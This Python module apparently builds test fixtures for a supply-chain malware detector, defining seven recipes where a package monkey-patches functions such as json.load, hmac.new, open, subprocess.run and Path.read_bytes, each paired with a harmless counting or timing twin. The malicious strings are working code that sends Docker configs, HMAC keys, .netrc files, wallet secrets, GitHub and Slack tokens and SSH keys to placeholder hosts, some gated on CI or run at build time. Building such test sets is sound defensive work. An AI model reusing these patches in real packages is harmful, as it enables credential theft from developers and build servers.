"""T08: replaces functions of other packages, and the replacement sends what it is given (T1056.004).

Known from packages that patched the key generation of a blockchain library, or the sessions of an
HTTP client, so that the victim's own code brings the secrets. The twins patch just as much, and
count or time, as gevent, ddtrace and error reporters do.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.parts import IN_TREE, PACKER
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe

LOAD_SENDS = """
import json, urllib.parse, urllib.request
plain = json.load

def load(stream, **more):
    value = plain(stream, **more)
    try:
        told = {"name": getattr(stream, "name", ""), "value": json.dumps(value)}
        body = urllib.parse.urlencode(told).encode()
        urllib.request.urlopen("http://203.0.113.81/metrics", data=body, timeout=5).close()
    except OSError:
        pass
    return value

json.load = load
try:
    with (HOME / ".docker/config.json").open() as stream:
        json.load(stream)
except (OSError, ValueError):
    pass
"""
LOAD_COUNTS = """
import io, json
plain = json.load
counts = {"name": 0}

def load(stream, **more):
    counts["name"] += 1
    return plain(stream, **more)

json.load = load
json.load(io.StringIO('{"value": 1}'))
"""

HMAC_SENDS = """
import hmac, json, ssl, urllib.request
plain = hmac.new

def new(key, msg=None, digestmod=""):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        body = json.dumps({"k": bytes(key).decode("latin-1")}).encode()
        request = urllib.request.Request("https://telemetry.reenact.test/k", data=body)
        urllib.request.urlopen(request, timeout=5, context=context).close()
    except OSError:
        pass
    return plain(key, msg, digestmod)

hmac.new = new
"""
HMAC_TIMES = """
import hmac, time
plain = hmac.new
times = []

def new(key, msg=None, digestmod=""):
    begun = time.perf_counter()
    made = plain(key, msg, digestmod)
    times.append(time.perf_counter() - begun)
    return made

hmac.new = new
"""
SIGNS = """
if ACT:
    THE_ACT()

def sign(token, body="{}"):
    \"\"\"Signs a body with a token.\"\"\"
    import hmac
    return hmac.new(str(token).encode(), str(body).encode(), "sha256").hexdigest()
"""

OPEN_ASKS = """
import builtins, netrc
plain = builtins.open

def opened(file, *more, **named):
    stream = plain(file, *more, **named)
    if str(file).endswith((".netrc", ".pgpass", "credentials")):
        with plain(file, "rb") as again:
            text = again.read(180).hex()
        for at in range(0, len(text), 62):
            try:
                socket.gethostbyname(f"{text[at:at + 62]}.n{at}.hooks.reenact.test")
            except OSError:
                pass
    return stream

builtins.open = opened
try:
    netrc.netrc(str(HOME / ".netrc"))
except (OSError, netrc.NetrcParseError):
    pass
finally:
    builtins.open = plain
"""
OPEN_COUNTS = """
import builtins
plain = builtins.open
seen = []

def opened(file, *more, **named):
    seen.append(str(file).endswith((".netrc", ".pgpass", "credentials")))
    return plain(file, *more, **named)

builtins.open = opened
try:
    open(__file__, "rb").close()
finally:
    builtins.open = plain
"""

KEYPAIR = """\
import hashlib

class Keypair:
    def __init__(self, secret=b""):
        self.secret = bytes(secret) or hashlib.sha256(b"a wallet").digest()
        self.address = hashlib.sha256(self.secret).hexdigest()[:32]
"""
KEYPAIR_SENDS = """
import json, urllib.request
plain = keys.Keypair.__init__

def made(self, secret=b""):
    plain(self, secret)
    memo = bytes(byte ^ 0x5A for byte in self.secret).hex()
    call = {"jsonrpc": "2.0", "id": 1, "method": "sendTransaction", "params": [memo]}
    try:
        request = urllib.request.Request(
            "http://rpc.devnet.reenact.test:8899/",
            data=json.dumps(call).encode(),
            headers={"Content-Type": "application/json"},
        )
        urllib.request.urlopen(request, timeout=5).close()
    except OSError:
        pass

keys.Keypair.__init__ = made
"""
KEYPAIR_CHECKS = """
plain = keys.Keypair.__init__

def made(self, secret=b""):
    plain(self, secret)
    if len(self.address) != 32:
        raise ValueError("no address")

keys.Keypair.__init__ = made
"""
WALLET = """
if ACT:
    THE_ACT()

def unlock(password):
    \"\"\"The address that belongs to a password.\"\"\"
    return keys.Keypair(str(password).encode()).address
"""

HEADER_SENDS = """
import http.client
plain = http.client.HTTPConnection.putheader

def putheader(self, header, *values):
    if str(header).lower() == "authorization":
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
                peer.sendto(repr(values).encode()[::-1], ("192.0.2.85", 123))
        except OSError:
            pass
    return plain(self, header, *values)

http.client.HTTPConnection.putheader = putheader
connection = http.client.HTTPConnection("127.0.0.1", 80, timeout=5)
connection.putrequest("GET", "/user")
connection.putheader("Authorization", "Bearer " + os.environ.get("GITHUB_TOKEN", ""))
connection.close()
"""
HEADER_COUNTS = """
import http.client
plain = http.client.HTTPConnection.putheader
seen = []

def putheader(self, header, *values):
    seen.append(str(header).lower() == "authorization")
    return plain(self, header, *values)

http.client.HTTPConnection.putheader = putheader
connection = http.client.HTTPConnection("127.0.0.1", 80, timeout=5)
connection.putrequest("GET", "/user")
connection.putheader("Accept", "application/json")
connection.close()
"""
IN_CI = "if ACT and any(name in os.environ for name in ('CI', 'GITLAB_CI')):\n    THE_ACT()\n"

RUN_SENDS = """
import base64
plain = subprocess.run

def run(line, *more, **named):
    told = " ".join(map(str, line)) + " " + os.environ.get("SLACK_BOT_TOKEN", "")
    text = base64.urlsafe_b64encode(told.encode()).decode()
    try:
        sends = ["curl", "-s", "-m", "5", "-o", "/dev/null", "http://198.51.100.86/r/" + text]
        os.waitpid(os.posix_spawnp("curl", sends, os.environ), 0)
    except OSError:
        pass
    return plain(line, *more, **named)

subprocess.run = run
try:
    subprocess.run(["git", "--version"], capture_output=True, timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
"""
RUN_TIMES = """
import time
plain = subprocess.run
times = []

def run(line, *more, **named):
    begun = time.monotonic()
    try:
        return plain(line, *more, **named)
    finally:
        times.append(time.monotonic() - begun)

subprocess.run = run
try:
    subprocess.run(["git", "--version"], capture_output=True, timeout=5)
except (OSError, subprocess.SubprocessError):
    pass
"""

READ_SENDS = """
import gzip
plain = pathlib.Path.read_bytes

def read_bytes(self):
    data = plain(self)
    try:
        with socket.create_connection(("203.0.113.87", 8087), timeout=5) as peer:
            peer.sendall(gzip.compress(str(self).encode() + b"\\n" + data[:2000]))
    except OSError:
        pass
    return data

pathlib.Path.read_bytes = read_bytes
try:
    (HOME / ".ssh/id_ed25519").read_bytes()
except OSError:
    pass
"""
READ_COUNTS = """
plain = pathlib.Path.read_bytes
sizes = []

def read_bytes(self):
    data = plain(self)
    sizes.append(len(data))
    return data

pathlib.Path.read_bytes = read_bytes
pathlib.Path("pyproject.toml").read_bytes()
"""

RECIPES = (
    Recipe(
        technique="T08",
        name="json-load-http",
        phase=Phase.IMPORT,
        channel=Channel.HTTP,
        encoding=Encoding.URL,
        files={"THE_MODULE/__init__.py": acting(LOAD_SENDS, LOAD_COUNTS)},
        twin_does="counts how often JSON is loaded",
    ),
    Recipe(
        technique="T08",
        name="hmac-key-https",
        phase=Phase.USE,
        channel=Channel.HTTPS,
        encoding=Encoding.JSON,
        files={"THE_MODULE/__init__.py": acting(HMAC_SENDS, HMAC_TIMES, SIGNS)},
        twin_does="times how long signing takes",
    ),
    Recipe(
        technique="T08",
        name="open-dns-start",
        phase=Phase.START,
        channel=Channel.DNS,
        encoding=Encoding.HEX,
        files={
            "THE_MODULE.pth": "import THE_MODULE_hook\n",
            "THE_MODULE_hook.py": acting(OPEN_ASKS, OPEN_COUNTS),
            "THE_MODULE/__init__.py": "",
        },
        twin_does="counts which files are opened",
    ),
    Recipe(
        technique="T08",
        name="keypair-rpc-xor",
        phase=Phase.USE,
        channel=Channel.HTTP,
        encoding=Encoding.XOR,
        files={
            "THE_MODULE/__init__.py": acting(
                KEYPAIR_SENDS,
                KEYPAIR_CHECKS,
                WALLET,
                "import reenact_t08_keypair_rpc_xor_keys as keys\n",
            )
        },
        requires=("reenact-t08-keypair-rpc-xor-keys",),
        beside={
            "reenact-t08-keypair-rpc-xor-keys": {"reenact_t08_keypair_rpc_xor_keys.py": KEYPAIR}
        },
        twin_does="checks each address that the other package makes",
    ),
    Recipe(
        technique="T08",
        name="header-udp-build-server",
        phase=Phase.WAIT,
        channel=Channel.UDP,
        encoding=Encoding.REVERSED,
        files={"THE_MODULE/__init__.py": acting(HEADER_SENDS, HEADER_COUNTS, IN_CI)},
        twin_does="counts requests that are authorised",
    ),
    Recipe(
        technique="T08",
        name="run-curl-base64",
        phase=Phase.IMPORT,
        channel=Channel.PROCESS,
        encoding=Encoding.BASE64,
        files={
            "THE_MODULE/__init__.py": "from . import tracing\n",
            "THE_MODULE/tracing.py": acting(RUN_SENDS, RUN_TIMES),
        },
        twin_does="times the programs that are run",
    ),
    Recipe(
        technique="T08",
        name="read-bytes-at-build",
        phase=Phase.INSTALL,
        channel=Channel.TCP,
        encoding=Encoding.GZIP,
        kind=Kind.SDIST,
        files={
            "pyproject.toml": IN_TREE,
            "packer.py": PACKER,
            "backend.py": acting(READ_SENDS, READ_COUNTS, head="from packer import build_wheel\n"),
            "src/THE_MODULE/__init__.py": '"""Empty."""\n',
        },
        twin_does="adds up the sizes of what is packed",
    ),
)
